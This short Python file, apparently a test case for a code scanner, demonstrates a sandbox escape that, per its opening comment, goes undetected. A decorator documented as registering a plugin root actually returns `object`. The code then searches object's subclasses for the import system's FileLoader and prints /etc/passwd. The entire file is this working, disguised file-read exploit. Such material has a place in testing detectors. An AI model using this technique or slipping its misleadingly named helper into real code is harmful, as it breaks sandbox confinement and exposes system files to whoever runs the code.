# "A class's own __subclasses__()" produces no finding. The decorator swaps the
# class for the owner of its inherited __init__ slot, which is `object`, so
# Plugin.__subclasses__() lists every direct subclass of object. One of them,
# the import system's FileLoader, reads any file.
def plugin_root(cls):
    """Register the root of the plugin hierarchy."""
    return cls.__init__.__objclass__


@plugin_root
class Plugin:
    pass


for candidate in Plugin.__subclasses__():
    if candidate.__name__ == "FileLoader":
        target = "/etc/passwd"
        print(candidate("passwd", target).get_data(target).decode())
        break
